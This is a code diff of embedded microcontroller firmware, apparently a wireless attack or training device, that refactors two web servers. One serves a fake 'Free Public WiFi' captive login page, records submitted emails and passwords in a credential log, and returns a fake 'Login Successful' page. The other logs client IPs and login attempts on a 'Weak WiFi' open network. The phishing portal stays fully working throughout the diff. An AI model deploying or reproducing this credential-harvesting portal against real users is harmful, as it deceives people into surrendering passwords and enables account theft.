@@ -1,42 +1,49 @@
 #include "web_servers.h"
 
+// Static pages are served straight from flash
+static const char MITM_LOGIN_PAGE[] PROGMEM =
+  "<html><head><title>Login Required</title></head>"
+  "<body><h1>Free Public WiFi</h1>"
+  "<p>Please login to access the internet</p>"
+  "<form method='post' action='/login'>"
+  "Email: <input type='text' name='email'><br>"
+  "Password: <input type='password' name='password'><br>"
+  "<input type='submit' value='Login'>"
+  "</form></body></html>";
+
+static const char MITM_SUCCESS_PAGE[] PROGMEM =
+  "<html><head><title>Login Successful</title></head>"
+  "<body><h1>Login Successful</h1>"
+  "<p>You are now connected to the internet</p>"
+  "</body></html>";
+
+static const char MITM_REDIRECT_PAGE[] PROGMEM =
+  "<html><body><h1>Free Public WiFi</h1><p>Redirecting to login page...</p></body></html>";
+
+static const char AP_WELCOME_PAGE[] PROGMEM =
+  "<html><head><title>Welcome</title></head>"
+  "<body><h1>Welcome to Weak WiFi</h1>"
+  "<p>This is an open WiFi network</p>"
+  "</body></html>";
+
 // MITM Server setup and handlers
 void setupMitmServer() {
   mitmServer.on("/", []() {
-    String html = "<html><head><title>Login Required</title></head>";
-    html += "<body><h1>Free Public WiFi</h1>";
-    html += "<p>Please login to access the internet</p>";
-    html += "<form method='post' action='/login'>";
-    html += "Email: <input type='text' name='email'><br>";
-    html += "Password: <input type='password' name='password'><br>";
-    html += "<input type='submit' value='Login'>";
-    html += "</form></body></html>";
-    
-    mitmServer.send(200, "text/html", html);
+    mitmServer.send_P(200, "text/html", MITM_LOGIN_PAGE);
   });
   
   mitmServer.on("/login", []() {
-    String email = mitmServer.arg("email");
-    String password = mitmServer.arg("password");
-    
     // Log the credentials
-    String log = "Cred: " + email + ":" + password;
-    mitmCredentials.push_back(log);
-    if (mitmCredentials.size() > 10) {
-      mitmCredentials.erase(mitmCredentials.begin());
-    }
+    FixedString<LOG_ENTRY_LEN> log;
+    log.appendf("Cred: %s:%s", mitmServer.arg("email").c_str(), mitmServer.arg("password").c_str());
+    mitmCredentials.push(log.c_str());
     
     // Show a success page
-    String html = "<html><head><title>Login Successful</title></head>";
-    html += "<body><h1>Login Successful</h1>";
-    html += "<p>You are now connected to the internet</p>";
-    html += "</body></html>";
-    
-    mitmServer.send(200, "text/html", html);
+    mitmServer.send_P(200, "text/html", MITM_SUCCESS_PAGE);
   });
   
   mitmServer.onNotFound([]() {
-    mitmServer.send(200, "text/html", "<html><body><h1>Free Public WiFi</h1><p>Redirecting to login page...</p></body></html>");
+    mitmServer.send_P(200, "text/html", MITM_REDIRECT_PAGE);
   });
   
   mitmServer.begin();
@@ -45,45 +52,29 @@ void setupMitmServer() {
 // AP Server setup and handlers
 void setupApServer() {
   apServer.on("/", []() {
-    String html = "<html><head><title>Welcome</title></head>";
-    html += "<body><h1>Welcome to Weak WiFi</h1>";
-    html += "<p>This is an open WiFi network</p>";
-    html += "</body></html>";
-    
-    apServer.send(200, "text/html", html);
+    apServer.send_P(200, "text/html", AP_WELCOME_PAGE);
     
     // Log the access
-    String clientIP = apServer.client().remoteIP().toString();
-    String log = "HTTP from " + clientIP;
-    apLogs.push_back(log);
-    if (apLogs.size() > 20) {
-      apLogs.erase(apLogs.begin());
-    }
+    FixedString<LOG_ENTRY_LEN> log;
+    log.appendf("HTTP from %s", apServer.client().remoteIP().toString().c_str());
+    apLogs.push(log.c_str());
   });
   
   apServer.on("/login", []() {
     // Simulate a login attempt
-    String username = apServer.arg("username");
-    String password = apServer.arg("password");
-    
-    if (username.length() > 0 && password.length() > 0) {
-      String log = "Login: " + username + ":" + password;
-      apLogs.push_back(log);
-      if (apLogs.size() > 20) {
-        apLogs.erase(apLogs.begin());
-      }
+    if (apServer.arg("username").length() > 0 && apServer.arg("password").length() > 0) {
+      FixedString<LOG_ENTRY_LEN> log;
+      log.appendf("Login: %s:%s", apServer.arg("username").c_str(), apServer.arg("password").c_str());
+      apLogs.push(log.c_str());
     }
     
     apServer.send(200, "text/plain", "Login attempted");
   });
   
   apServer.onNotFound([]() {
-    String uri = apServer.uri();
-    String log = "404: " + uri;
-    apLogs.push_back(log);
-    if (apLogs.size() > 20) {
-      apLogs.erase(apLogs.begin());
-    }
+    FixedString<LOG_ENTRY_LEN> log;
+    log.appendf("404: %s", apServer.uri().c_str());
+    apLogs.push(log.c_str());
     
     apServer.send(404, "text/plain", "Not found");
   });